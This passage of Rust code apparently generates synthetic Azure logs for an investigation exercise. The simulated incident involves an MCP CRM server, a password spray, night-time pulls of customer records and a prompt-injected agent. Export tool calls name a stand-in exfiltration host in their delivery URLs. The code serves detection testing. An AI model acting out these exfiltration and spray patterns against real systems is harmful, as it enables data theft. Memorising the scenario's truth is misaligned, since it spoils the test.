                vec![customer],
                600,
            ),
        };
        Call {
            tool,
            arguments,
            customers,
            response_bytes: bytes,
            upload: None,
        }
    }

    #[allow(
        clippy::too_many_lines,
        reason = "one call's rows in every emitter's layout, written in the order Azure writes them"
    )]
    fn tool_call(
        &mut self,
        user: &User,
        client_ip: &str,
        session: &str,
        t: DateTime<Utc>,
        call: &Call,
        attacker: bool,
    ) {
        let trace = self.rng.hex(32);
        let span = self.rng.hex(16);
        self.last_call_seen = self.scenario.keeps_operation(&trace);
        self.last_call_cut = false;
        let enduser = match self.scenario.enduser_form {
            EnduserForm::ObjectId => user.object_id.clone(),
            EnduserForm::Upn => user.upn.clone(),
        };
        let result = match call.tool {
            "search_customers" => {
                json!({"matches": call.customers.iter().map(|c| json!({"customer_id": c})).collect::<Vec<_>>()})
            }
            "export_customer_data" => {
                json!({"exported": call.customers.len(), "status": "delivered"})
            }
            _ => json!({"ok": true}),
        };
        let mut duration = self.rng.range(40, 900) as f64 + self.rng.unit();
        // An upload is part of the call's work: the call lasts until it has been sent.
        let upload_offset = self.rng.range(300, 2_000);
        if call.upload.is_some() {
            duration = duration.max(upload_offset as f64 + 450.0);
        }
        let agent = if attacker {
            "mcp-python-client/1.9.0"
        } else {
            user.agent
        };
        let properties = json!({
            "mcp.method.name": "tools/call", "gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": call.tool,
            "mcp.session.id": session, "jsonrpc.request.id": format!("{}", self.rng.range(2, 400)), "mcp.protocol.version": "2025-06-18",
            "network.transport": "tcp", "network.protocol.name": "http", "client.address": client_ip, "client.port": format!("{}", self.rng.range(49_152, 65_535)),
            "enduser.id": enduser, "user_agent.original": agent,
            "gen_ai.tool.call.arguments": call.arguments.to_string(), "gen_ai.tool.call.result": result.to_string(),
            "response.bytes": format!("{}", call.response_bytes),
        });
        let request = json!({
            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t), "Id": span, "Source": "", "Name": format!("tools/call {}", call.tool),
            "Url": "https://mcp-crm.contoso.com/mcp", "Success": true, "ResultCode": "0", "DurationMs": duration,
            "PerformanceBucket": if duration < 250.0 { "<250ms" } else { "250ms-500ms" }, "Properties": properties, "Measurements": null,
            "OperationName": format!("tools/call {}", call.tool), "OperationId": trace, "ParentId": "", "SyntheticSource": "", "SessionId": "",
            "UserId": "", "UserAuthenticatedId": enduser, "UserAccountId": "", "AppVersion": "1.4.2", "AppRoleName": "mcp-crm-server",
            "AppRoleInstance": "vm-mcp-01", "ClientType": "PC", "ClientModel": "", "ClientOS": "", "ClientIP": "0.0.0.0", "ClientCity": "",
            "ClientStateOrProvince": "", "ClientCountryOrRegion": "", "ClientBrowser": "", "ResourceGUID": self.scenario.ikey, "IKey": self.scenario.ikey,
            "SDKVersion": "otelpy1.29.0:otel1.29.0:ext1.0.0b32", "ItemCount": 1, "ReferencedItemId": "", "ReferencedType": "", "SourceSystem": "Azure",
            "Type": "AppRequests", "_ResourceId": format!("/subscriptions/{}/resourcegroups/rg-mcp-prod/providers/microsoft.insights/components/appi-mcp-prod", self.scenario.subscription),
        });
        for (table, row) in super::emitter::rows(self.scenario.emitter, request) {
            self.emit(table, t, row);
        }
        if user.upn == stories::AGENT_NAME {
            self.model_call(t, &trace, attacker);
        }
        let statement = match call.customers.as_slice() {
            [one] => format!(
                "SELECT id, name, email, iban, address FROM crm.customers WHERE id = '{one}'"
            ),
            many => format!(
                "SELECT id, name, email, iban, address FROM crm.customers WHERE id IN ({})",
                many.iter()
                    .map(|c| format!("'{c}'"))
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
        };
        let db_time = t + Duration::milliseconds(self.rng.range(2, 30));
        self.dependency(
            db_time,
            &trace,
            &span,
            "SQL",
            "sql-crm-prod.database.windows.net | crm",
            "SELECT crm.customers",
            &statement,
            None,
            0,
        );
        self.emit("AppTraces", t + Duration::milliseconds(1), json!({
            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t + Duration::milliseconds(1)),
            "Message": format!("tool {} called in session {}", call.tool, session), "SeverityLevel": 1,
            "Properties": if matches!(self.scenario.emitter, super::emitter::Emitter::NoSession | super::emitter::Emitter::ViaApim) { json!({"gen_ai.tool.name": call.tool}) } else { json!({"gen_ai.tool.name": call.tool, "mcp.session.id": session}) },
            "OperationName": format!("tools/call {}", call.tool),
            "OperationId": trace, "ParentId": span, "AppRoleName": "mcp-crm-server", "AppRoleInstance": "vm-mcp-01", "ClientIP": "0.0.0.0",
            "ItemCount": 1, "SDKVersion": "otelpy1.29.0", "Type": "AppTraces",
        }));
        if let Some(upload_bytes) = call.upload {
            let upload_time = t + Duration::milliseconds(upload_offset);
            let (host, ip, name, url) = if call.tool == "fetch_url" {
                let (host, ip) = stories::fetch_target(&call.arguments);
                let url = call
                    .arguments
                    .get("url")
                    .and_then(Value::as_str)
                    .unwrap_or_default();
                let verb = if upload_bytes > 0 { "POST" } else { "GET" };
                (host, ip, format!("{verb} {host}"), url.to_string())
            } else {
                let url = format!("https://{EXFIL_HOST}/u/{}", self.rng.hex(10));
                (EXFIL_HOST, EXFIL_IP, "POST /u".to_string(), url)
            };
            self.dependency(
                upload_time,
                &trace,
                &span,
                "HTTP",
                host,
                &name,
                &url,
                Some(ip),
                upload_bytes,
            );
            self.flow(
                MCP_MAC,
                upload_time,
                MCP_HOST_IP,
                ip,
                (40_000, 60_000),
                443,
                'O',
                upload_bytes.max(600),
                4_000,
            );
        }
        if call.tool == "get_customer" {
            self.geocode(db_time, &trace, &span);
        }
        // The client's connection to the server (through API Management: the gateway's): the
        // response bytes flow back to the client.
        let caller = if self.scenario.emitter == super::emitter::Emitter::ViaApim {
            APIM_PRIVATE_IP
        } else {
            client_ip
        };
        self.flow(
            MCP_MAC,
            t,
            caller,
            MCP_HOST_IP,
            (49_152, 65_535),
            443,
            'I',
            1_200 + call.arguments.to_string().len() as i64,
            call.response_bytes + 900,
        );
        if attacker {
            self.attacker_calls += 1;
            self.attack_at(t);
            if !self.last_call_seen {
                self.attacker_calls_sampled_away += 1;
            }
            // Calls lost in the export outage or sampled away name nobody in the evidence: not
            // in the truth.
            if !self.in_outage("AppRequests", t) && self.last_call_seen && !self.last_call_cut {
                self.touched.extend(call.customers.iter().cloned());
            }
        }
        self.implant_copy(t, call);
    }

    /// The agent's model call before a tool call (its own GenAI span, in the same trace, as the
    /// Azure Monitor exporter files it: a dependency typed by its gen_ai.system, the gen_ai.*
    /// attributes in Properties as text). A steered session's prompts carry the injected page, so
    /// they are several thousand tokens longer. Drawn from the trace id, not the random stream.
    fn model_call(&mut self, t: DateTime<Utc>, trace: &str, steered: bool) {
        let digits = |from: usize| i64::from_str_radix(&trace[from..from + 4], 16).unwrap_or(0);
        let input = 900
            + digits(0) % 1_500
            + if steered {
                6_000 + digits(4) % 3_000
            } else {
                0
            };
        let output = 40 + digits(8) % 260;
        let time = t - Duration::milliseconds(400 + digits(12) % 1_500);
        let row = json!({
            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(time), "Id": &trace[16..32],
            "Target": "crm-ai.openai.azure.com", "DependencyType": "az.ai.inference", "Name": "chat gpt-4o",
            "Data": "", "Success": true, "ResultCode": "0", "DurationMs": (300 + digits(16) % 2_500) as f64,
            "Properties": {"gen_ai.operation.name": "chat", "gen_ai.system": "az.ai.inference",
                "gen_ai.request.model": "gpt-4o", "gen_ai.response.model": "gpt-4o-2024-11-20",
                "gen_ai.usage.input_tokens": format!("{input}"), "gen_ai.usage.output_tokens": format!("{output}")},
            "OperationName": "chat gpt-4o", "OperationId": trace, "ParentId": "",
            "AppRoleName": stories::AGENT_NAME, "AppRoleInstance": "aca-agent-01", "ClientIP": "0.0.0.0", "ItemCount": 1,
            "SDKVersion": "otelpy1.29.0", "Type": "AppDependencies",
        });
        self.emit_without_faults("AppDependencies", time, row);
    }

    #[allow(
        clippy::too_many_arguments,
        reason = "each argument is a column of the AppDependencies row"
    )]
    fn dependency(
        &mut self,
        t: DateTime<Utc>,
        trace: &str,
        parent: &str,
        kind: &str,
        target: &str,
        name: &str,
        data: &str,
        peer: Option<&str>,
        bytes: i64,
    ) {
        let mut properties = json!({"db.system": if kind == "SQL" { "mssql" } else { "" }});
        if kind == "HTTP" {
            // The exporter keeps no http.*, server.* or network.peer.* attribute of a CLIENT span:
            // the host is in Target and the URL in Data.
            properties = json!({});
        }
        if let Some(peer) = peer.filter(|_| self.scenario.peer_addresses) {
            properties = json!({"network.peer.address": peer, "server.address": target, "http.request.body.size": format!("{bytes}")});
        }
        let id = self.rng.hex(16);
        let duration = self.rng.range(2, 400) as f64;
        let row = json!({
            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t), "Id": id, "Target": target,
            "DependencyType": kind, "Name": name, "Data": data, "Success": true, "ResultCode": if kind == "HTTP" { "201" } else { "0" },
            "DurationMs": duration, "Properties": properties, "OperationName": name, "OperationId": trace,
            "ParentId": parent, "AppRoleName": "mcp-crm-server", "AppRoleInstance": "vm-mcp-01", "ClientIP": "0.0.0.0", "ItemCount": 1,
            "SDKVersion": "otelpy1.29.0", "Type": "AppDependencies",
        });
        self.emit("AppDependencies", t, row);
    }

    /// One NSG flow: a begin tuple and an end tuple with the byte counts, in a one-minute record.
    #[allow(
        clippy::too_many_arguments,
        reason = "each argument is a field of the flow tuple"
    )]
    fn flow(
        &mut self,
        mac: &str,
        t: DateTime<Utc>,
        src: &str,
        dst: &str,
        sports: (i64, i64),
        dport: i64,
        direction: char,
        bytes_s2d: i64,
        bytes_d2s: i64,
    ) {
        let sport = self.rng.range(sports.0, sports.1);
        let start = t.timestamp();
        let end = start + self.rng.range(1, 20);
        let packets = |b: i64| (b / 1_400).max(1) + 2;
        let (rule, dst_rule) = if direction == 'I' {
            ("UserRule_Allow-HTTPS-Inbound", dst)
        } else {
            ("DefaultRule_AllowInternetOutBound", src)
        };
        let _ = dst_rule;
        let tuples = vec![
            format!("{start},{src},{dst},{sport},{dport},T,{direction},A,B,,,,"),
            format!(
                "{end},{src},{dst},{sport},{dport},T,{direction},A,E,{},{bytes_s2d},{},{bytes_d2s}",
                packets(bytes_s2d),
                packets(bytes_d2s)
            ),
        ];
        let record_time = Utc
            .timestamp_opt(end - end % 60 + 60, 0)
            .single()
            .unwrap_or(t);
        let record_time = if record_time.hour() != t.hour() {
            t
        } else {
            record_time
        };
        if mac == TICKETS_MAC {
            let (ms_start, ms_end) = (
                start * 1000 + self.rng.range(0, 999),
                end * 1000 + self.rng.range(0, 999),
            );
            let vnet_tuples = vec![
                format!(
                    "{},{src},{dst},{sport},{dport},6,{direction},B,NX,0,0,0,0",
                    ms_start
                ),
                format!(
                    "{},{src},{dst},{sport},{dport},6,{direction},E,NX,{},{bytes_s2d},{},{bytes_d2s}",
                    ms_end,
                    packets(bytes_s2d),
                    packets(bytes_d2s)
                ),
            ];
            let record = json!({
                "time": ts(record_time), "flowLogVersion": 4, "flowLogGUID": "3c1f6a2e-5b7d-4e9f-8a1b-2c3d4e5f6a7b", "macAddress": mac,
                "category": "FlowLogFlowEvent", "flowLogResourceID": format!("/SUBSCRIPTIONS/{}/RESOURCEGROUPS/NETWORKWATCHERRG/PROVIDERS/MICROSOFT.NETWORK/NETWORKWATCHERS/NETWORKWATCHER_WESTEUROPE/FLOWLOGS/FL-MCP-TICKETS", self.scenario.subscription.to_ascii_uppercase()),
                "targetResourceID": format!("/subscriptions/{}/resourceGroups/rg-mcp-prod/providers/Microsoft.Network/virtualNetworks/vnet-mcp/subnets/snet-tickets", self.scenario.subscription),
                "operationName": "FlowLogFlowEvent",
                "flowRecords": {"flows": [{"aclID": "9a8b7c6d-5e4f-4a3b-2c1d-0e9f8a7b6c5d", "flowGroups": [{"rule": "UserRule_Allow-APIM-Inbound", "flowTuples": vnet_tuples}]}]},
            });
            let prefix = self.vnet_prefix();
            self.blobs.flow_record(
                "insights-logs-flowlogflowevent",
                &prefix,
                mac,
                record_time,
                record.to_string(),
            );
        } else {
            let record = json!({
                "time": ts(record_time), "systemId": "5f0c2b1a-8d3e-4f6a-9b7c-1d2e3f4a5b6c", "macAddress": mac, "category": "NetworkSecurityGroupFlowEvent",
                "resourceId": format!("/SUBSCRIPTIONS/{}/RESOURCEGROUPS/RG-MCP-PROD/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG-MCP-PROD", self.scenario.subscription.to_ascii_uppercase()),
                "operationName": "NetworkSecurityGroupFlowEvents",
                "properties": {"Version": 2, "flows": [{"rule": rule, "flows": [{"mac": mac, "flowTuples": tuples}]}]},
            });
            let prefix = self.nsg_prefix();
            self.blobs.flow_record(
                "insights-logs-networksecuritygroupflowevent",
                &prefix,
                mac,
                record_time,
                record.to_string(),
            );
        }
        self.rows += 1;
    }

    /// Backups, Key Vault reads, scanner noise, session events and audit entries: every day, baseline and window alike.
    fn background(&mut self, midnight: DateTime<Utc>) {
        let backup = midnight + Duration::hours(2) + Duration::seconds(self.rng.range(0, 600));
        let trace = self.rng.hex(32);
        let span = self.rng.hex(16);
        let size = self.rng.range(1_400_000_000, 1_600_000_000);
        let name = format!("PUT /backups/crm-{}.bak", midnight.format("%Y-%m-%d"));
        let url = format!(
            "https://{BACKUP_HOST}/backups/crm-{}.bak",
            midnight.format("%Y-%m-%d")
        );
        self.dependency(
            backup,
            &trace,
            &span,
            "Azure blob",
            BACKUP_HOST,
            &name,
            &url,
            Some(BACKUP_IP),
            size,
        );
        self.flow(
            MCP_MAC,
            backup,
            MCP_HOST_IP,
            BACKUP_IP,
            (40_000, 60_000),
            443,
            'O',
            size,
            90_000,
        );
        for hour in 0..24 {
            let t = midnight + Duration::hours(hour) + Duration::seconds(self.rng.range(0, 3_000));
            let trace = self.rng.hex(32);
            let span = self.rng.hex(16);
            self.dependency(
                t,
                &trace,
                &span,
                "Azure Key Vault",
                VAULT_HOST,
                "GET /secrets/crm-db",
                &format!("https://{VAULT_HOST}/secrets/crm-db"),
                Some(VAULT_IP),
                0,
            );
            self.flow(
                MCP_MAC,
                t,
                MCP_HOST_IP,
                VAULT_IP,
                (40_000, 60_000),
                443,
                'O',
                1_900,
                5_400,
            );
            // Internet scanners hitting the NSG, denied.
            for _ in 0..self.rng.range(1, 4) {
                let scan =
                    midnight + Duration::hours(hour) + Duration::seconds(self.rng.range(0, 3_599));
                let src = (*self.rng.pick(SCANNERS)).to_string();
                let port = *self.rng.pick(&[22, 23, 445, 3389, 5900, 8080]);
                let record = json!({
                    "time": ts(scan), "systemId": "5f0c2b1a-8d3e-4f6a-9b7c-1d2e3f4a5b6c", "macAddress": MCP_MAC, "category": "NetworkSecurityGroupFlowEvent",
                    "resourceId": format!("/SUBSCRIPTIONS/{}/RESOURCEGROUPS/RG-MCP-PROD/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG-MCP-PROD", self.scenario.subscription.to_ascii_uppercase()),
                    "operationName": "NetworkSecurityGroupFlowEvents",
                    "properties": {"Version": 2, "flows": [{"rule": "DefaultRule_DenyAllInBound", "flows": [{"mac": MCP_MAC, "flowTuples": [format!("{},{src},{MCP_HOST_IP},{},{port},T,I,D,B,,,,", scan.timestamp(), self.rng.range(1_024, 65_535))]}]}]},
                });
                let prefix = self.nsg_prefix();
                self.blobs.flow_record(
                    "insights-logs-networksecuritygroupflowevent",
                    &prefix,
                    MCP_MAC,
                    scan,
                    record.to_string(),
                );
                self.rows += 1;
            }
        }
        let started = midnight + Duration::minutes(self.rng.range(0, 50));
        self.emit("AppEvents", started, json!({
            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(started), "Name": "McpServerHeartbeat",
            "Properties": {"server.version": "1.4.2", "tools": "6"}, "AppRoleName": "mcp-crm-server", "AppRoleInstance": "vm-mcp-01",
            "ClientIP": "0.0.0.0", "ItemCount": 1, "SDKVersion": "otelpy1.29.0", "Type": "AppEvents",
        }));
        let audit_time = midnight + Duration::hours(9) + Duration::minutes(self.rng.range(0, 300));
        let admin = self.scenario.users[0].clone();
        self.audit(
            audit_time,
            &admin,
            OFFICE_IP,
            "Update user",
            "UserManagement",
        );
    }

    fn audit(&mut self, t: DateTime<Utc>, actor: &User, ip: &str, activity: &str, category: &str) {
        let target = self.rng.pick(&self.scenario.users).clone();
        let (id, correlation) = (format!("Directory_{}", self.rng.hex(20)), self.rng.uuid());
        let row = json!({
            "TenantId": self.scenario.workspace_id, "SourceSystem": "Azure AD", "TimeGenerated": ts(t), "ActivityDateTime": ts(t),
            "Id": id, "CorrelationId": correlation, "OperationName": activity, "ActivityDisplayName": activity,
            "Category": category, "AADOperationType": "Update", "Result": "success", "ResultReason": "", "LoggedByService": "Core Directory",
            "InitiatedBy": {"user": {"id": actor.object_id, "userPrincipalName": actor.upn, "ipAddress": ip, "displayName": actor.display}},
            "TargetResources": [{"id": target.object_id, "displayName": target.display, "type": "User", "userPrincipalName": target.upn, "modifiedProperties": []}],
            "AdditionalDetails": [{"key": "User-Agent", "value": "Mozilla/5.0"}], "Type": "AuditLogs",
        });
        self.emit("AuditLogs", t, row);
    }

    /// The helpdesk bot's daytime calls to `mcp-tickets` through API Management.
    fn helpdesk(&mut self, midnight: DateTime<Utc>) {
        for hour in 8..17 {
            for _ in 0..self.rng.poisson(0.8 * self.scenario.scale.clamp(0.2, 4.0)) {
                let t = midnight
                    + Duration::hours(hour)
                    + Duration::milliseconds(self.rng.range(0, 3_599_000));
                let user = self.rng.pick(&self.scenario.users).clone();
                let customer = self.rng.pick(&user.customers).clone();
                let ticket = format!("T-{}", self.rng.range(100_000, 999_999));
                self.apim_call(
                    t,
                    OFFICE_IP,
                    "get_ticket",
                    json!({"customer_id": customer, "ticket_id": ticket}),
                    "helpdesk-bot",
                    2_400,
                );
            }
        }
    }

    fn apim_call(
        &mut self,
        t: DateTime<Utc>,
        caller: &str,
        tool: &str,
        arguments: Value,
        client: &str,
        response_size: i64,
    ) {
        let correlation = self.rng.uuid();
        let session = self.rng.uuid();
        let id = self.rng.range(1, 500);
        let body = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": tool, "arguments": arguments}});
        let resource = format!(
            "/subscriptions/{}/resourcegroups/rg-mcp-prod/providers/microsoft.apimanagement/service/apim-mcp-prod",
            self.scenario.subscription
        );
        let total_time = self.rng.range(30, 400);
        let gateway = json!({
            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t), "OperationName": "Microsoft.ApiManagement/GatewayLogs",
            "CorrelationId": correlation, "Region": "West Europe", "IsRequestSuccess": true, "Category": "GatewayLogs", "TotalTime": total_time,
            "CallerIpAddress": caller, "Method": "POST", "Url": "https://apim-mcp-prod.azure-api.net/tickets/mcp", "ClientProtocol": "HTTP/1.1",
            "ResponseCode": 200, "BackendMethod": "POST", "BackendUrl": format!("http://{TICKETS_IP}:8080/mcp"), "BackendResponseCode": 200,
            "RequestSize": 420 + body.to_string().len(), "ResponseSize": response_size, "ApiId": "mcp-tickets", "OperationId": "mcp-post",
            "ApimSubscriptionId": "helpdesk", "UserId": "", "ProductId": "mcp", "RequestBody": body.to_string(),
            "ResponseBody": json!({"jsonrpc": "2.0", "id": id, "result": {"content": [{"type": "text", "text": "ticket found"}]}}).to_string(),
            "Type": "ApiManagementGatewayLogs", "_ResourceId": resource,
        });
        self.emit("ApiManagementGatewayLogs", t, gateway);
        self.emit("ApiManagementGatewayMCPLog", t, json!({
            "TenantId": self.scenario.workspace_id, "TimeGenerated": ts(t), "OperationName": "tools/call", "CorrelationId": correlation,
            "SessionId": session, "Method": "tools/call", "ToolName": tool, "ClientName": client, "ClientVersion": "2.3.1",
            "AuthenticationMethod": "api_key", "ApiType": "mcp", "McpServerEndpoint": format!("http://{TICKETS_IP}:8080/mcp"),
            "ServerName": "mcp-tickets", "ServerVersion": "0.9.0", "ProtocolVersion": "2025-06-18", "TransportType": "streamable-http",
            "Region": "West Europe", "Type": "ApiManagementGatewayMCPLog", "_ResourceId": resource,
        }));
        self.flow(
            TICKETS_MAC,
            t,
            APIM_PRIVATE_IP,
            TICKETS_IP,
            (30_000, 60_000),
            8080,
            'I',
            900,
            response_size + 300,
        );
    }

    /// The password spray: failures on every account from one IP, then a success on the victim.
    fn spray(&mut self, start: DateTime<Utc>) {
        let users = self.scenario.users.clone();
        let mut t = start;
        for (i, user) in users.iter().enumerate() {
            if matches!(user.pattern, Pattern::StartsOn(_)) {
                continue;
            }
            t += Duration::milliseconds(self.rng.range(4_000, 25_000));
            self.sign_in(user, t, SPRAY_IP, "50126", true);
            if i % 6 == 5 {
                t += Duration::milliseconds(self.rng.range(1_000, 5_000));
                self.sign_in(user, t, SPRAY_IP, "50053", true);
            }
        }
        for victim in &self.scenario.victims {
            let victim = users[*victim].clone();
            t += Duration::seconds(self.rng.range(60, 240));
            self.sign_in(&victim, t, SPRAY_IP, "50126", true);
            t += Duration::seconds(self.rng.range(20, 90));
            self.sign_in(&victim, t, SPRAY_IP, "0", true);
        }
        let victim = users[self.scenario.victims[0]].clone();
        t += Duration::minutes(4);
        self.audit(
            t,
            &victim,
            SPRAY_IP,
            "User registered security info",
            "UserManagement",
        );
    }

    /// A night of quiet pulls from a new IP through the victim's identity, plus anonymous APIM calls.
    fn attacker_night(&mut self, midnight: DateTime<Utc>, night: u32) {
        let victims = &self.scenario.victims;
        let victim = self.scenario.users[victims[night as usize % victims.len()]].clone();
        let ip = NIGHT_IPS[(night as usize) % 2];
        let start = midnight
            + Duration::hours(if night == 0 { 4 } else { 1 })
            + Duration::minutes(self.rng.range(0, 60));
        self.sign_in(&victim, start, ip, "0", false);
        let session = self.rng.uuid();
        let all_customers = self.scenario.targets();
        let mut t = start + Duration::seconds(self.rng.range(10, 60));
        let calls = self.rng.range(6, 16);
        for _ in 0..calls {
            t += Duration::milliseconds(self.rng.range(20_000, 240_000));
            let roll = self.rng.below(100);
            let call = match roll {
                0..=19 => {
                    let matched: Vec<String> = (0..self.rng.range(8, 20))
                        .map(|_| self.rng.pick(&all_customers).clone())
                        .collect();
                    let bytes = 1_500 * matched.len() as i64;
                    Call {
                        tool: "search_customers",
                        arguments: json!({"query": "%"}),
                        customers: matched,
                        response_bytes: bytes,
                        upload: None,
                    }
                }
                20..=59 => {
                    let customer = self.rng.pick(&all_customers).clone();
                    Call {
                        tool: "get_customer",
                        arguments: json!({"customer_id": customer}),
                        customers: vec![customer],
                        response_bytes: self.rng.range(4_000, 9_000),
                        upload: None,
                    }
                }
                60..=74 => {
                    let customer = self.rng.pick(&all_customers).clone();
                    Call {
                        tool: "list_orders",
                        arguments: json!({"customerId": customer, "since": "2020-01-01"}),
                        customers: vec![customer],
                        response_bytes: self.rng.range(20_000, 90_000),
                        upload: None,
                    }
                }
                _ => {
                    let ids: Vec<String> = (0..self.rng.range(10, 25))
                        .map(|_| self.rng.pick(&all_customers).clone())
                        .collect();
                    let upload = 60_000 * ids.len() as i64 + self.rng.range(0, 50_000);
                    Call {
                        tool: "export_customer_data",
                        arguments: json!({"customer_ids": ids, "format": "csv", "deliver_to": format!("https://{EXFIL_HOST}/u/{}", self.rng.hex(10))}),
                        customers: ids,
                        response_bytes: 900,
                        upload: Some(upload),
                    }
                }
            };
            self.tool_call(&victim, ip, &session, t, &call, true);
        }
        if self.rng.chance(0.45) {
            let all = self.scenario.targets();
            for _ in 0..self.rng.range(2, 6) {
                t += Duration::milliseconds(self.rng.range(15_000, 90_000));
                let customer = self.rng.pick(&all).clone();
                self.apim_call(
                    t,
                    ip,
                    "search_tickets",
                    json!({"customer_id": customer}),
                    "python-httpx",
                    38_000,
                );
                self.touched.insert(customer);
                self.anonymous_calls += 1;
                self.attacker_calls += 1;
                self.attack_at(t);
            }
        }
    }
}

/// An instant as the truth writes it (RFC 3339, UTC, `Z`, fractional seconds only when present).
fn format_utc(t: DateTime<Utc>) -> String {
    t.to_rfc3339_opts(chrono::SecondsFormat::AutoSi, true)
}

/// The customers a cut record still names: every id this generator writes (`C-` and digits)
/// that is complete in the surviving text, that is followed by its closing quote (escaped or
/// not). The generator's own reading of its own records, apart from the tool's; a test compares
/// it with the tool's lenient reading (`customer_mentions`).
fn surviving_customers(line: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    let mut rest = line;
    while let Some(at) = rest.find("C-") {
        let tail = &rest[at + 2..];
        let digits = tail
            .find(|c: char| !c.is_ascii_digit())
            .unwrap_or(tail.len());
        let id = &rest[at..at + 2 + digits];
        let closed = tail[digits..].starts_with('"') || tail[digits..].starts_with("\\\"");
        if digits > 0 && closed && !found.iter().any(|f| f == id) {
            found.push(id.to_string());
        }
        rest = &tail[digits..];
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Cut anywhere, a record names the same customers to the generator's reading as to the
    /// tool's lenient one.
    #[test]
    fn a_cut_record_names_the_customers_the_tool_reads() {
        let properties = json!({
            "gen_ai.tool.name": "search_customers",
            "gen_ai.tool.call.arguments": json!({"customerIds": ["C-10010", "C-10023"], "since": "2026-01-01"}).to_string(),
            "gen_ai.tool.call.result": json!({"matches": [{"customer_id": "C-10010"}, {"customer_id": "C-10077"}]}).to_string(),
        });
        let line = json!({"TimeGenerated": "2026-06-01T09:12:40.136Z", "Properties": properties})
            .to_string();
        let keys: Vec<String> = crate::query::udf::DEFAULT_CUSTOMER_KEYS
            .iter()
            .map(|k| (*k).to_string())
            .collect();
        let mut compared = 0;
        for cut in (0..=line.len()).filter(|c| line.is_char_boundary(*c)) {
            let text = &line[..cut];
            let mut ours = surviving_customers(text);
            let mut tools = crate::query::udf::customer_mentions(text, &keys);
            ours.sort();
            tools.sort();
            assert_eq!(ours, tools, "cut at {cut}: {text}");
            compared += usize::from(!ours.is_empty());
        }
        assert!(compared > 100, "{compared} cuts named a customer");
        assert_eq!(surviving_customers(&line).len(), 3);
    }
}
